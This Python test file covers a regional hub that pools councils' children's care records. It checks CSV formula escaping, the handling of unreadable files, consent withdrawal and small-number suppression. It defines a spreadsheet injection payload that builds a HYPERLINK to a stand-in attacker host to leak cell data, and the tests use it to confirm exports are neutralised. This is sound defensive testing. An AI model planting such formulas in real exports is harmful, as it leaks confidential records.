"""Findings sent again to a region's hub (SQLite and PostgreSQL): a formula in a council's cell reaches no analyst
live; one consenting council's file that cannot be read leaves it out, named with why, and the others still answer
with no server path or upload id; a council that leaves a region loses its consent, audited, and comes back with none."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session

from collectors.regions import pooled, sources
from collectors.regions.pooled import Built
from collectors.regions.sources import Held
from collectors.regions.sufficiency import placements
from indicators.store.models import Submission
from mappings.regions import consent, forms
from mappings.regions.policy import use_cases
from onereturn.settings import Settings
from tests.apps import client_on
from tests.collectors.regions.world import COUNCILS, REGION, Files, Region, make_files, onboard, plant, store_figures
from tests.web.pages import sign_in

OFFICER = {"X-API-Key": "demo-officer-5e0b9c2a4f"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Files:
    return make_files(tmp_path_factory.mktemp("region-files"))


class Hub:
    """A client on a store holding the region, its councils and their kept files."""

    def __init__(self, client: TestClient, region: Region, store: Engine, settings: Settings) -> None:
        self.client, self.region, self.store, self.settings = client, region, store, settings

    def council(self, code: str) -> dict[str, str]:
        return {"X-API-Key": self.region.approvers[code]}

    @property
    def hub(self) -> dict[str, str]:
        return {"X-API-Key": self.region.region_key}

    def consent(self, code: str, *names: str) -> None:
        given = self.client.put(
            f"/api/agencies/{code}/consent/{REGION}", headers=self.council(code), json={"use_cases": list(names)}
        )
        assert given.status_code == 200, given.text


@pytest.fixture
def hub(store: Engine, store_settings: Settings, files: Files) -> Iterator[Hub]:
    region = onboard(store, store_settings, files)
    with client_on(store_settings, store) as client:
        yield Hub(client, region, store, store_settings)


def replant(hub: Hub, files: Files, code: str, tmp: Path, column: str, value: str) -> int:
    """The council's SSDA903 sent again with ``value`` in every episode's ``column``, kept as its newest upload."""
    made, _ = files.folders[code]
    folder = tmp / code
    folder.mkdir()
    copies = [Path(shutil.copy(path, folder / path.name)) for path in made]
    episodes = folder / "episodes.csv"
    rows = list(csv.DictReader(episodes.open()))
    for row in rows:
        row[column] = value
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    episodes.write_text(out.getvalue())
    return plant(hub.store, hub.settings, code, "903", copies)


def test_no_pooled_cell_runs_as_a_formula() -> None:
    table = use_cases()["pan"].tables["ssda903_episodes"]
    frame = pl.DataFrame({"council": ["E10000024"] * 3, "URN": [FORMULA, "@SUM(A1:A9)", "-12"]})
    text = Built(use_cases()["pan"], table, frame).csv().decode()
    cells = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert cells == ["'" + FORMULA, "'@SUM(A1:A9)", "-12"]


def test_a_formula_sent_in_a_kept_column_reaches_the_region_harmless(hub: Hub, files: Files, tmp_path: Path) -> None:
    for code in COUNCILS:
        hub.consent(code, "pan", "sufficiency")
    replant(hub, files, "notts_cyp", tmp_path, "URN", FORMULA)
    for path in (
        f"/api/regions/{REGION}/pan/ssda903_episodes.csv",
        f"/api/regions/{REGION}/sufficiency/placements.csv",
    ):
        answer = hub.client.get(path, headers=hub.hub)
        assert answer.status_code == 200, answer.text
        cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "@", "+")], path
        assert "E10000024" in answer.headers["x-councils"], path


def test_a_council_whose_file_cannot_be_read_is_left_out_and_the_others_answer(
    hub: Hub, files: Files, tmp_path: Path
) -> None:
    for code in COUNCILS:
        hub.consent(code, "pan", "sufficiency")
    store_figures(hub.store, hub.settings, hub.region)
    uploads = hub.region.uploads
    with Session(hub.store) as session:
        # Nottinghamshire's kept file is gone; Derbyshire's is sealed under keys the service does not hold.
        gone = session.get(Submission, uploads[("notts_cyp", "903")])
        assert gone is not None
        gone.raw_path = "no-such-kept-file.zip.fernet"
        session.add(gone)
        session.commit()
    elsewhere = Settings(data_dir=hub.settings.data_dir, records_keys_file=tmp_path / "other" / "keys.json")
    plant(hub.store, elsewhere, "derbyshire_cs", "903", files.folders["derbyshire_cs"][0])
    # Leicestershire's newest file is no SSDA903 at all.
    junk = tmp_path / "header.csv"
    junk.write_bytes(b"\x00\x01 not a table \xff")
    plant(hub.store, hub.settings, "leics_cs", "903", [junk])
    for path in (f"/api/regions/{REGION}/pan/ssda903_header.csv", f"/api/regions/{REGION}/sufficiency/placements.csv"):
        answer = hub.client.get(path, headers=hub.hub)
        assert answer.status_code == 200, answer.text
        assert answer.headers["x-councils"] == "E09000023", path
        left = answer.headers["x-left-out"]
        assert "E10000024 (notts_cyp)" in left
        assert "missing" in left
        assert "E10000007 (derbyshire_cs)" in left
        assert "sealed under keys" in left
        assert "E10000018 (leics_cs)" in left
        assert "could not be read" in left
        said = left + answer.text
        assert str(hub.settings.data_dir) not in said
        assert "fernet" not in said
        assert not [str(i) for i in hub.region.uploads.values() if f"submission {i}" in said or f"upload {i}" in said]
    figures = hub.client.get(f"/api/regions/{REGION}/figures", headers=hub.hub)
    assert figures.status_code == 200, figures.text
    # The region's figures are those the councils' uploads stored: no kept file is read, so none is left out.
    assert figures.json()["left_out"] == []
    looked_after = next(i for i in figures.json()["items"] if i["indicator"] == "cyp.lac_count")
    assert {c["council"] for c in looked_after["councils"]} == {gss for gss, _, _ in COUNCILS.values()}


def test_the_upn_lookup_reads_no_file_outside_the_use_cases_retention(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub.consent("notts_cyp", "sufficiency")
    with Session(hub.store) as session:
        census = session.get(Submission, hub.region.uploads[("notts_cyp", "cin")])
        assert census is not None
        census.collection_year = "2016-17"  # inside no year of sufficiency's 7 in 2026
        session.add(census)
        session.commit()
    read: list[str] = []
    real = sources.read_tables

    def reading(engine: Engine, settings: Settings, held: Held) -> dict[str, pl.DataFrame]:
        read.append(f"{held.library} {held.collection_year}")
        return real(engine, settings, held)

    monkeypatch.setattr(pooled, "read_tables", reading)
    built = placements(hub.store, hub.settings, REGION, date(2025, 3, 31))
    assert built.frame.height > 0
    assert read == ["903 2024-25"]


def region_csv(orgs: str) -> bytes:
    """The region's row as the officer imports it, with the member councils ``orgs``."""
    return f"code,name,body_type,orgs,provenance\n{REGION},Midlands hub (test),region,{orgs},test\n".encode()


def test_a_council_that_leaves_its_region_loses_its_consent_and_comes_back_with_none(
    hub: Hub, store: Engine, store_settings: Settings
) -> None:
    hub.consent("notts_cyp", "pan", "sufficiency")
    hub.consent("derbyshire_cs", "pan")
    without = "E10000007;E10000018;E09000023"
    files = {"file": ("region.csv", region_csv(without), "text/csv")}
    dry = hub.client.post("/api/agencies/import", headers=OFFICER, files=files, params={"dry_run": "true"})
    assert dry.status_code == 200, dry.text
    assert dry.json()["consent_ended"] == []
    left = hub.client.post("/api/agencies/import", headers=OFFICER, files=files)
    assert left.status_code == 200, left.text
    assert left.json()["consent_ended"] == [f"notts_cyp to {REGION}"]
    with Session(store) as session:
        (row,) = [r for r in consent.consents(session, REGION) if r.council == "derbyshire_cs"]
        assert row.use_cases == ("pan",)  # a council still a member keeps its consent
    trail = hub.client.get("/api/audit", headers=OFFICER, params={"action": "consent.withdraw"}).json()["items"]
    assert [(e["object"], e["detail"]) for e in trail] == [
        (
            f"consent of notts_cyp to {REGION}",
            "withdrawn: use cases pan, sufficiency -> none (no longer a member of the region)",
        )
    ]
    # Not a member, the council still reads every change of its consent, and may withdraw (nothing left to withdraw).
    notts = hub.council("notts_cyp")
    history = hub.client.get(f"/api/agencies/notts_cyp/consent/{REGION}/history", headers=notts)
    assert history.status_code == 200, history.text
    changes = [c["change"] for c in history.json()["changes"]]
    assert changes == [
        "use cases none -> pan, sufficiency",
        "withdrawn: use cases pan, sufficiency -> none (no longer a member of the region)",
    ]
    elsewhere = hub.client.get(f"/api/agencies/derbyshire_cs/consent/{REGION}/history", headers=notts)
    assert elsewhere.status_code == 404
    assert hub.client.delete(f"/api/agencies/notts_cyp/consent/{REGION}", headers=notts).status_code == 200
    with client_on(store_settings, store, follow_redirects=False) as pages:
        sign_in(pages, hub.region.approvers["notts_cyp"])
        shown = pages.get("/consent")
        assert shown.status_code == 200, shown.text
        assert f'id="former-{REGION}"' in shown.text
        assert "no longer a member of the region" in shown.text
    # Put back, it consents to nothing until its approver gives consent again.
    back = hub.client.post(
        "/api/agencies/import", headers=OFFICER, files={"file": ("r.csv", region_csv(f"E10000024;{without}"), "x")}
    )
    assert back.status_code == 200, back.text
    assert hub.client.get(f"/api/agencies/notts_cyp/consent/{REGION}", headers=notts).json()["use_cases"] == []
    header = hub.client.get(f"/api/regions/{REGION}/pan/ssda903_header.csv", headers=hub.hub)
    assert header.headers["x-councils"] == "E10000007"


def test_a_name_typed_into_a_kept_column_is_blanked_and_counted(hub: Hub, files: Files, tmp_path: Path) -> None:
    for code in COUNCILS:
        hub.consent(code, "pan", "sufficiency")
    clean = {}
    for table in ("ssda903_header", "ssda903_episodes", "cin_census", "sen2_persons"):
        answer = hub.client.get(f"/api/regions/{REGION}/pan/{table}.csv", headers=hub.hub)
        assert answer.status_code == 200, answer.text
        clean[table] = answer.text
        assert answer.headers["x-blanked"] == "", table  # the councils' own files are of their forms throughout
    replant(hub, files, "notts_cyp", tmp_path, "URN", "ZORBALINDA QUIMBY")
    for path in (
        f"/api/regions/{REGION}/pan/ssda903_episodes.csv",
        f"/api/regions/{REGION}/sufficiency/placements.csv",
    ):
        answer = hub.client.get(path, headers=hub.hub)
        assert answer.status_code == 200, answer.text
        assert "ZORBALINDA" not in answer.text, path
        rows = list(csv.DictReader(io.StringIO(answer.text)))
        notts = [r for r in rows if r["council"] == "E10000024"]
        assert notts
        assert {r["URN"] for r in notts} == {""}
        assert answer.headers["x-blanked"] == f"URN: {len(notts)}", path
        # Another council's URNs, of their form, are pooled as sent.
        kept = {r["URN"] for r in rows if r["council"] == "E10000007"}
        assert kept, path
        assert any(u.startswith("SC") for u in kept), kept


def test_every_kept_column_has_a_form_and_its_codes_are_the_specifications() -> None:
    held = forms.forms()
    for case in use_cases().values():
        for table in case.tables.values():
            kept = {c.name for c in table.columns if c.action == "keep"}
            assert kept <= set(held[table.source]), table.name
    assert held["903:Episodes"]["PLACE"].codes is not None
    assert {"U1", "K2", "Z1"} <= held["903:Episodes"]["PLACE"].codes
    frame = pl.DataFrame({"URN": ["SC123456", "1234567", "XXXXXXX", "ZORBA QUIMBY", "12", None]})
    table = use_cases()["pan"].tables["ssda903_episodes"]
    blanked: dict[str, int] = {}
    out = forms.conform(frame, table, blanked)
    assert out["URN"].to_list() == ["SC123456", "1234567", "XXXXXXX", None, None, None]
    assert blanked == {"URN": 2}


def figures_of(hub: Hub) -> dict[tuple[str, str], dict[str, Any]]:
    answer = hub.client.get(f"/api/regions/{REGION}/figures", headers=hub.hub)
    assert answer.status_code == 200, answer.text
    return {(i["indicator"], i["period"]): i for i in answer.json()["items"]}


def children(part: dict[str, Any]) -> float | None:
    """The children a shown figure counts: a count's value, the smaller of a rate's numerator and denominator."""
    if part["numerator"] is None or part["denominator"] is None:
        return None if part["value"] is None else float(part["value"])
    return float(min(part["numerator"], part["denominator"]))


def test_no_small_regional_figure_is_shown_and_two_builds_recover_no_withheld_value(hub: Hub) -> None:
    store_figures(hub.store, hub.settings, hub.region)
    for code in ("notts_cyp", "derbyshire_cs", "leics_cs"):
        hub.consent(code, "pan")
    before = figures_of(hub)
    hub.consent("lewisham_council", "pan")
    after = figures_of(hub)
    lewisham = COUNCILS["lewisham_council"][0]
    withheld = 0
    for key, item in after.items():
        assert "shown whole" not in item["small_numbers"], key
        for part in [*item["councils"], item["region"]]:
            shown = children(part) if part["symbol"] is None else None
            assert shown is None or not 1 <= shown <= 5, (key, part)
        hidden = [p for p in item["councils"] if p["symbol"] is not None]
        if hidden:
            withheld += 1
            # The region's figure is withheld with any council's: no shown figure holds a withheld value.
            assert item["region"]["value"] is None, key
            assert item["region"]["symbol"] == "c", key
        (theirs,) = [p for p in item["councils"] if p["council"] == lewisham]
        old = before.get(key)
        if theirs["symbol"] is not None and old is not None:
            # Subtracting the region's figure before Lewisham consented from the one after cannot give its value.
            assert item["region"]["value"] is None or old["region"]["value"] is None, key
    assert withheld > 0


def test_a_council_that_stops_sending_records_for_a_member_council_loses_its_consent(hub: Hub) -> None:
    hub.consent("leics_cs", "pan")
    # The officer's change of the council's own agency: it now sends no children's records for one council.
    changed = hub.client.patch("/api/agencies/leics_cs", headers=OFFICER, json={"returns": ["dfe_ssda903"]})
    assert changed.status_code == 200, changed.text
    assert (
        hub.client.get(f"/api/agencies/leics_cs/consent/{REGION}", headers=hub.council("leics_cs")).status_code == 200
    )
    moved = hub.client.patch("/api/agencies/leics_cs", headers=OFFICER, json={"orgs": ["E08000025"]})
    assert moved.status_code == 200, moved.text
    changes = hub.client.get(f"/api/agencies/leics_cs/consent/{REGION}/history", headers=hub.council("leics_cs"))
    assert [c["change"] for c in changes.json()["changes"]][-1] == (
        "withdrawn: use cases pan -> none (no longer a member of the region)"
    )
    assert hub.client.get(f"/api/regions/{REGION}/pan/ssda903_header.csv", headers=hub.hub).headers["x-councils"] == ""
